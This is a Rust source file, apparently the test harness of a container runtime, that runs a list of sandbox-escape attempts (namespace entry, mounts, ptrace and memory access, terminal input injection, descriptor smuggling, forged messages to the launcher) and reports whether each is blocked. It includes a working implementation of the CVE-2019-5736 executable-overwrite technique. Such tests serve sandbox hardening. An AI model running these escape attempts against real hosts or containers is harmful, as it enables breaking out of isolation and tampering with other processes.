//! `try WHAT WORD…`: attempts, most of which a container must not let through. Each prints `ok`
//! or the name of an errno.

use std::collections::BTreeMap;
use std::ffi::CString;
use std::fs::{self, OpenOptions};
use std::io::{self, ErrorKind, Read, Write};
use std::net::TcpListener;
use std::os::fd::AsRawFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixStream};
use std::time::{Duration, Instant};

use syscalls::Sysno;

use crate::sys::attack;
use crate::{Outcome, errno, escape, number, sys, word};

/// Tries it, and prints how that went.
pub fn run(words: &[&str]) -> Outcome {
    errno::print(attempt(words));
    Ok(0)
}

fn attempt(words: &[&str]) -> io::Result<()> {
    let path =
        |index| word(words, index).and_then(|text| CString::new(text).map_err(io::Error::other));
    match word(words, 0)? {
        "read" => read(word(words, 1)?),
        "write" => write(word(words, 1)?, words.get(2).copied().unwrap_or("x")),
        "open" => OpenOptions::new().write(true).open(word(words, 1)?).map(drop),
        "create" => fs::write(word(words, 1)?, words.get(2).copied().unwrap_or("")),
        "truncate" => attack::truncate(&path(1)?),
        "rename" => fs::rename(word(words, 1)?, word(words, 2)?),
        "execute" => {
            std::process::Command::new(word(words, 1)?).args(["exit", "0"]).status().map(drop)
        }
        // TCGETS: what is no terminal has none, if it may be asked.
        "ask-modes" => {
            let file = fs::File::open(word(words, 1)?)?;
            attack::call(libc::SYS_ioctl as usize, [file.as_raw_fd() as usize, 0x5401, 0])
        }
        "mkdir" => fs::create_dir(word(words, 1)?),
        "symlink" => std::os::unix::fs::symlink("to", word(words, 1)?),
        "remove" => fs::remove_file(word(words, 1)?),
        "list" => fs::read_dir(word(words, 1)?)?.next().transpose().map(drop),
        "mknod" => sys::make_null_node(&path(1)?),
        "mount" => sys::mount(&path(2).unwrap_or(c"tmpfs".into()), &path(1)?),
        "make-cgroup" => make_cgroup(),
        "umount" => sys::detach(&path(1)?),
        "remount" => sys::remount_writable(&path(1)?),
        "chroot" => sys::chroot(&path(1)?),
        "setns" => sys::enter_namespace(&path(1)?),
        "unshare-user" => sys::unshare(libc::CLONE_NEWUSER),
        "unshare-mount" => sys::unshare(libc::CLONE_NEWNS),
        "hostname" => sys::set_hostname(word(words, 1)?),
        "setgroups" => sys::set_groups(&[number(words, 1)?]),
        "setuid" => sys::set_uid(number(words, 1)?),
        "kill" => sys::kill(number(words, 1)?, number(words, 2)?),
        "ptrace" => attack::trace(number(words, 1)?),
        "memory" => attack::read_memory(number(words, 1)?),
        "write-memory" => attack::write_memory(number(words, 1)?),
        "smuggle" => smuggle(word(words, 1)?),
        "connect-mptcp" => attack::connect(number(words, 1)?, libc::IPPROTO_MPTCP, 0),
        "connect-fast" => attack::connect(number(words, 1)?, 0, libc::MSG_FASTOPEN),
        "bind" => TcpListener::bind(("127.0.0.1", number(words, 1)?)).map(drop),
        "descriptor" => attack::take_descriptor(number(words, 1)?, number(words, 2)?).map(drop),
        "forge" => forge(number(words, 1)?),
        "overwrite" => overwrite(word(words, 1)?, number(words, 2)?),
        "key" => attack::request_key(&path(1)?),
        "users-key" => attack::find_users_key(&path(1)?),
        "netlink" => attack::ask_netlink(number(words, 1)?, number(words, 2)?),
        "nested" => nested(&words[1..]),
        "read-key" => sys::read_key(number(words, 1)?),
        "type" => sys::type_into(0, b'x', 0),
        "type-high" => sys::type_into(0, b'x', 1 << 32),
        "type-own" => sys::take_terminal(0).and_then(|()| sys::type_into(0, b'x', 0)),
        "paste" => sys::paste_selection(0),
        "queue" => sys::open_message_queue(&path(1)?, libc::O_CREAT | libc::O_RDWR),
        "open-queue" => sys::open_message_queue(&path(1)?, libc::O_RDONLY),
        "remove-queue" => sys::remove_message_queue(&path(1)?),
        "handle" => sys::open_by_handle(&path(1)?),
        "call" => attack::call(called(word(words, 1)?)?, numbers(&words[2..])?),
        "call-i386" => attack::call_i386(number(words, 1)?, numbers(&words[2..])?),
        "chown" => sys::change_owner(&path(1)?, number(words, 2)?),
        other => Err(io::Error::other(format!("unknown attempt {other}"))),
    }
}

/// As root of a user namespace of one's own, and of what may be made with it.
fn nested(words: &[&str]) -> io::Result<()> {
    escape::own_root(libc::CLONE_NEWCGROUP | libc::CLONE_NEWNET)?;
    attempt(words)
}

/// A system call's number, which may be its name.
fn called(word: &str) -> io::Result<usize> {
    let named = || word.parse::<Sysno>().map(|call| call.id() as usize);
    word.parse().or_else(|_| named()).map_err(|()| io::Error::other("no such system call"))
}

/// Takes a directory of the host's from whoever listens at this abstract name, and looks for a file
/// that is not inside.
fn smuggle(name: &str) -> io::Result<()> {
    let address = SocketAddr::from_abstract_name(name)?;
    let socket = UnixStream::connect_addr(&address)?;
    let directory = attack::receive_descriptor(&socket)?;
    fs::metadata(format!("/proc/self/fd/{}/{name}", directory.as_raw_fd())).map(drop)
}

/// Tells the launcher in PID 1's name that another process is the container from here on.
fn forge(pid: u32) -> io::Result<()> {
    /// A terminal, another process, another namespace (init/src/report.rs).
    const KINDS: [u8; 3] = [4, 7, 8];
    let line = fs::read_to_string("/proc/1/cmdline")?;
    let terms = line.split('\0').nth(1).unwrap_or_default();
    let channel = attack::take_descriptor(1, number(&terms.split(',').collect::<Vec<_>>(), 2)?)?;
    let mut channel = fs::File::from(channel);
    KINDS
        .into_iter()
        .try_for_each(|kind| channel.write_all(&[[kind, 0, 0, 0], pid.to_le_bytes()].concat()))
}

/// CVE-2019-5736: takes hold of the program of every other process that has one with this in its path,
/// and writes to it as soon as nobody runs it, for so many milliseconds at most.
fn overwrite(name: &str, milliseconds: u64) -> io::Result<()> {
    let end = Instant::now() + Duration::from_millis(milliseconds);
    let own = fs::read_link("/proc/self/exe")?;
    let mut taken = BTreeMap::new();
    let mut said = io::Error::from_raw_os_error(libc::ESRCH);
    while Instant::now() < end {
        for entry in fs::read_dir("/proc")? {
            let program = entry?.path().join("exe");
            match fs::read_link(&program).and_then(|path| Ok((fs::File::open(&program)?, path))) {
                Ok((file, path)) if path != own && path.to_string_lossy().contains(name) => {
                    taken.entry(path).or_insert(file);
                }
                Err(error) if error.kind() == ErrorKind::PermissionDenied => said = error,
                _ => {}
            }
        }
        for file in taken.values() {
            let by_number = format!("/proc/self/fd/{}", file.as_raw_fd());
            match OpenOptions::new().write(true).truncate(true).open(by_number) {
                Ok(mut file) => return file.write_all(b"overwritten"),
                Err(error) => said = error,
            }
        }
    }
    Err(said)
}

/// One below the cgroup that we are in, by a file system of our own.
fn make_cgroup() -> io::Result<()> {
    sys::mount(c"cgroup2", c"/tmp")?;
    let path = format!("/tmp/attack-{}", std::process::id());
    fs::create_dir(&path)?;
    fs::remove_dir(&path)
}

/// The first three arguments of a system call; what is not given is 0.
fn numbers(words: &[&str]) -> io::Result<[usize; 3]> {
    let mut all = [0; 3];
    for (index, place) in all.iter_mut().enumerate().take(words.len()) {
        *place = number(words, index)?;
    }
    Ok(all)
}

/// One byte is enough; an empty file is as good.
fn read(path: &str) -> io::Result<()> {
    fs::File::open(path)?.read(&mut [0]).map(drop)
}

fn write(path: &str, text: &str) -> io::Result<()> {
    OpenOptions::new().append(true).open(path)?.write_all(text.as_bytes())
}
